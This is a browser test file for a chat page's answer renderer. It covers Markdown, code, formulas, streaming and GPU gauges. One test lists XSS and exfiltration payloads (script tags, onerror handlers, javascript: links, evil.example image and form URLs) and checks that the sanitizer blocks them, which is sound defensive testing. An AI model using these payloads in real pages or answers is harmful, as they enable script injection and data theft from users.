"""What the page makes of answers: Markdown, code, formulas - and nothing of what a hostile one would like."""

import pytest

from aimark_daemon.protocol import messages as m
from tests.browser import page_build
from tests.browser.live import CHROMIUM, Script, open_page
from tests.server.harness import in_loop

pytestmark = [
    pytest.mark.browser,
    pytest.mark.skipif(CHROMIUM is None, reason="Chromium is not installed: apt-get install chromium"),
]
ANSWER = ".message.assistant"
FRIENDLY = """## 제목

| 도시 | 인구 |
|:--|--:|
| 서울 | 940만 |

1. 하나
   - 안
2. 둘

- [x] 했다

```python
def 인사(이름):  # 주석
    return f"안녕 {이름}"
```

$$\\frac{a}{b}$$ 그리고 \\(x^2\\), **굵게**는 [문서](https://example.org/a "제목") ~~지움~~.
"""
HOSTILE = [
    "<script>window.hacked = 1</script>",
    "<img src=x onerror='window.hacked = 1'>",
    "<svg/onload=window.hacked=1>",
    "<iframe srcdoc='<script>parent.hacked = 1</script>'></iframe>",
    "<a href='javascript:window.hacked=1'>x</a>",
    "[x](javascript:window.hacked=1)",
    "[x](java&#115;cript:window.hacked=1)",
    "[x](data:text/html;base64,PHNjcmlwdD4=)",
    "<javascript:window.hacked=1>",
    "![x](https://evil.example/?q=secret)",
    "![x](http://127.0.0.1:1/secret.png)",
    '![x](https://evil.example/" onerror="window.hacked=1)',
    "[![x](https://evil.example/a.png)](https://evil.example)",
    "<style>@import 'https://evil.example/x.css'</style>",
    "<link rel=stylesheet href=https://evil.example/x.css>",
    "<meta http-equiv=refresh content='0;url=https://evil.example'>",
    "<form action=https://evil.example><input name=q><button>go</button></form>",
    '```"><script>window.hacked=1</script>\ncode\n```',
    "```html\n<script>window.hacked = 1</script>\n```",
    "$\\href{javascript:window.hacked=1}{x}$ $\\includegraphics{https://evil.example/x.png}$",
    "$\\htmlData{a=b}{x}$ $\\url{https://evil.example}$",
    "| a |\n|---|\n| <img src=x onerror=window.hacked=1> |",
]


@pytest.fixture(scope="module")
def built():
    build = page_build.ready()
    build.build()
    return build.PAGE


async def answered(page, script, reply):
    script.reply = reply
    await page.fill(".composer textarea", "질문")
    await page.press(".composer textarea", "Enter")
    await page.wait_for_selector(f"{ANSWER}[data-state=complete]")


@in_loop
async def test_markdown_becomes_tables_lists_code_formulas_and_links(tmp_path, built):
    async with open_page(tmp_path, built, language="en-GB") as (page, script, complaints):
        await page.context.grant_permissions(["clipboard-read", "clipboard-write"])
        await answered(page, script, FRIENDLY)
        assert await page.inner_text(f"{ANSWER} h3") == "제목"
        assert await page.locator(f"{ANSWER} td").all_inner_texts() == ["서울", "940만"]
        assert await page.locator(f"{ANSWER} ol ul li").all_inner_texts() == ["안"]
        assert await page.locator(f"{ANSWER} [role=img][aria-label=done]").count() == 1
        assert await page.inner_text(f"{ANSWER} .hl-keyword >> nth=0") == "def"
        assert await page.inner_text(f"{ANSWER} .hl-comment") == "# 주석"
        # Formulas come a moment later, and are drawn by the browser itself.
        await page.wait_for_selector(f"{ANSWER} math mfrac")
        await page.wait_for_selector(f"{ANSWER} math msup")
        link = page.locator(f"{ANSWER} a")
        assert await link.get_attribute("href") == "https://example.org/a"
        assert await link.get_attribute("rel") == "noopener noreferrer nofollow"
        asked = []

        async def stay(dialog):
            asked.append(dialog.message)
            await dialog.dismiss()

        page.on("dialog", stay)
        await link.click()
        assert len(asked) == 1
        assert "https://example.org/a" in asked[0]
        assert len(page.context.pages) == 1
        await page.locator(f"{ANSWER} .code-head button").click()
        assert await page.evaluate("navigator.clipboard.readText()") == (
            'def 인사(이름):  # 주석\n    return f"안녕 {이름}"'
        )
        assert complaints == []


@in_loop
async def test_a_hostile_answer_runs_nothing_loads_nothing_and_sends_nothing(tmp_path, built):
    async with open_page(tmp_path, built, language="en-GB") as (page, script, complaints):
        asked = []
        page.on("request", lambda request: asked.append(request.url))
        await answered(page, script, "\n\n".join([*HOSTILE, "끝 $x$"]))
        await page.wait_for_selector(f"{ANSWER} math")
        assert await page.evaluate("window.hacked") is None
        allowed = (
            "script, style, iframe, img, link, meta, form, object, embed, input, svg:not(.icon), [onerror], [onload]"
        )
        assert await page.locator(f"{ANSWER} :is({allowed})").count() == 0
        addresses = await page.locator(f"{ANSWER} a").evaluate_all("links => links.map(link => link.href)")
        assert {address.split(":")[0] for address in addresses} <= {"http", "https"}
        assert [url for url in asked if not url.startswith(page.url.rstrip("/"))] == []
        shown = await page.inner_text(ANSWER)
        assert "<script>window.hacked = 1</script>" in shown
        assert "[image not loaded: x]" in shown
        assert complaints == []


@in_loop
async def test_a_long_answer_that_streams_draws_only_its_end_again(tmp_path, built):
    async with open_page(tmp_path, built) as (page, script, _):
        script.pause = True
        script.reply = "\n\n".join(f"문단 {number} **굵게**" for number in range(400))
        await page.fill(".composer textarea", "길게")
        await page.press(".composer textarea", "Enter")
        await page.wait_for_selector(f"{ANSWER} p:nth-child(150)")
        await page.evaluate(
            """() => {
                window.changed = new Set();
                const places = [...document.querySelectorAll('.message.assistant .rich > *')];
                new MutationObserver((records) => {
                    for (const { target } of records) {
                        const index = places.findIndex((place) => place.contains(target));
                        if (index >= 0) window.changed.add(index);
                    }
                }).observe(document.querySelector('.message.assistant .rich'),
                           { subtree: true, childList: true, characterData: true });
                window.before = places.length;
            }"""
        )
        script.go_on.set()
        await page.wait_for_selector(f"{ANSWER}[data-state=complete]")
        assert await page.locator(f"{ANSWER} .rich > p").count() == 400
        changed, before = await page.evaluate("[[...window.changed], window.before]")
        assert [index for index in changed if index < before - 2] == []


@in_loop
async def test_a_graphics_card_is_shown_at_a_glance_and_over_ten_minutes(tmp_path, built):
    gib = 1024**3
    script = Script()
    times = tuple(float(1_800_000_000 + 10 * step) for step in range(60))
    script.history = m.TelemetryHistory(
        times=times,
        series={"gpu.0.utilisation": tuple(float(step) for step in range(60)), "gpu.0.power_w": (None,) * 60},
    )
    async with open_page(tmp_path, built, language="en-GB", script=script) as (page, _, complaints):
        card = m.GpuInfo(0, "Card", vram_total=8 * gib, vram_used=5 * gib, utilisation=62, temperature_c=61)
        script.client.send(m.Telemetry(time=times[-1] + 10, gpu=(card,)))
        await page.wait_for_selector(".gauge.vram:has-text('5.0 GB / 8.0 GB')")
        assert await page.locator(".gauge-value").all_inner_texts() == ["5.0 GB / 8.0 GB", "62%", "61 °C"]
        await page.click(".machine")
        await page.wait_for_selector(".chart:has-text('GPU') canvas")
        titles = await page.locator(".chart figcaption").all_inner_texts()
        assert ["".join(title.split("\n")) for title in titles] == ["GPU 62%", "VRAM 5.0 GB", "Temperature 61 °C"]
        assert complaints == []
